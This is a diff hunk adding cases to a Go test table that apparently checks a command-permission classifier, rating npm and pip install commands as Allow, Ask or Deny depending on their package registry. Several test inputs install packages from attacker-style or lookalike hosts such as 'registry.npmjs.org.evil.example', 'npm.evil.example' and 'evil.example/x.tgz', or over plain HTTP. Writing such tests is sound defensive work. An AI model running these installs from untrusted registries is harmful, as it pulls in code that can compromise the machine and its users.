@@ -25,6 +25,9 @@ var classTests10 = []struct {
 	{"install-source", `npx swagger-typescript-api -p swagger.json -o src/api -i`, Allow},
 	{"install-source", `pip install -i https://pypi.mirror.example/simple requests`, Ask},
 	{"install-source", `pip3 install -i http://10.0.0.9/simple tool`, Deny},
+	{"install-source", `npm ci --registry https://registry.npmjs.org/`, Allow},
+	{"install-source", `npm install --registry=https://registry.npmjs.org.evil.example/ lodash`, Ask},
+	{"install-source", `npm install --registry http://registry.npmjs.org/ lodash`, Deny},
 	{"install-source", `npm install --registry=https://npm.evil.example/ lodash`, Ask},
 	{"install-source", `npm install --registry=https://registry.npmjs.org/ https://evil.example/x.tgz`, Ask},
 
